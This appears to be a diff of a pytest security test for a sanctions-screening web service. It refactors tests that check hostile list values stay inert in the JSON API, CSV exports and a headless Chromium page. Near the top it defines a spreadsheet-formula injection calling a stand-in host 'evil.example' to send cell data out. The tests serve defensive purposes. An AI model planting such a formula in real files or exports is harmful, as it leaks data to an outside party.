@@ -15,7 +15,6 @@ import contextlib
 import csv
 import io
 import json
-import time
 from collections.abc import Iterator
 from datetime import date
 from pathlib import Path
@@ -26,7 +25,7 @@ import pytest
 from bench.listxml import ListParty, ofac_advanced, un_consolidated
 
 from . import live
-from .live import JS_URL, MARK, PASSWORD, PAYLOAD, Live
+from .live import INLINE, JS_URL, MARK, PASSWORD, PAYLOAD, PROBE, Live
 
 ETH = "0x7f268357a8c2552623316e2562d90e642bb538e5"
 FORMULA = f'=HYPERLINK("http://evil.example/?"&A1,"{MARK}")'
@@ -76,16 +75,6 @@ def _json(res: httpx.Response) -> Any:
     return res.json()
 
 
-def _job(c: httpx.Client, job: dict[str, Any], h: dict[str, str]) -> dict[str, Any]:
-    deadline = time.monotonic() + 240
-    while job["status"] not in ("done", "failed", "error"):
-        assert time.monotonic() < deadline, job
-        time.sleep(0.2)
-        job = _json(c.get(f"/api/v1/jobs/{job['id']}", headers=h))
-    assert job["status"] == "done", job
-    return job
-
-
 def _versions(c: httpx.Client, h: dict[str, str]) -> list[str]:
     found = _json(c.get("/api/v1/lists/versions", headers=h))
     ofac = sorted((v for v in found if v["list_id"] == "us_ofac_sdn"), key=lambda v: v["published"])
@@ -119,7 +108,7 @@ def test_hostile_list_values_come_back_exact_in_the_json_api(server: Live) -> No
             headers=h,
             files={"file": ("hostile.csv", rows.encode(), "text/csv")},
         )
-        job = _job(c, _json(up), h)
+        job = live.wait_job(c, _json(up), h)
         best = [r["best"]["name"] for r in job["result"]["results"]]
         assert best == [*HOSTILE_NAMES, FORMULA], best
         out = c.get(f"/api/v1/screen/batch/{job['id']}.csv", headers=h)
@@ -172,31 +161,17 @@ APPLICANTS = "id,full_name,emails,employers\n" + "".join(
 
 
 def test_hostile_list_values_never_run_in_chromium(server: Live, tmp_path: Path) -> None:
-    from playwright.sync_api import sync_playwright
-
-    from .test_service_attacks import INLINE, PROBE
-
     h = server.headers("analyst")
     with server.client() as c:  # employers matching hostile parties: shown on the review page
         up = c.post("/api/v1/hiring/screenings", headers=h,
                     files={"file": ("applicants.csv", APPLICANTS.encode(), "text/csv")})  # fmt: skip
-        screening = _job(c, _json(up), h)["result"]["screening_id"]
+        screening = live.wait_job(c, _json(up), h)["result"]["screening_id"]
     batch = tmp_path / "hostile.csv"
     batch.write_text(
         "name\n" + "".join(f'"{n.replace(chr(34), chr(34) * 2)}"\n' for n in HOSTILE_NAMES)
     )
     seen: dict[str, dict[str, Any]] = {}
-    with sync_playwright() as pw:
-        browser = pw.chromium.launch(executable_path="/usr/bin/chromium",
-                                     args=["--headless", "--no-sandbox", "--disable-gpu"])  # fmt: skip
-        page = browser.new_context(base_url=server.url).new_page()
-        dialogs: list[str] = []
-        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
-        page.goto("/login")
-        page.get_by_label("User name").fill(server.users["admin"])
-        page.get_by_label("Password").fill(PASSWORD)
-        page.get_by_role("button", name="Log in").click()
-        page.wait_for_url(server.url + "/")
+    with live.browser(server) as (page, dialogs):
         seen["/"] = page.evaluate(PROBE)
         for n, value in enumerate((*HOSTILE_NAMES, ETH)):
             page.goto("/screen")
@@ -224,11 +199,8 @@ def test_hostile_list_values_never_run_in_chromium(server: Live, tmp_path: Path)
             "shown": page.locator("#people").inner_text().count(MARK) >= 2
         }
         inline = page.evaluate(INLINE)
-        browser.close()
+    live.assert_nothing_ran(seen)
     for url, probe in seen.items():
-        assert probe["pwned"] is None, f"{url}: a planted script ran ({probe['pwned']})"
-        assert not probe["handlers"] and not probe["scripts"], f"{url}: live markup {probe}"
-        assert not probe["jsLinks"], f"{url}: javascript: link {probe['jsLinks']}"
         assert url == "/" or probe["shown"], f"{url}: the hostile party is not shown, so not tested"
     assert not dialogs
     assert inline["blocked"] and not inline["ran"], inline
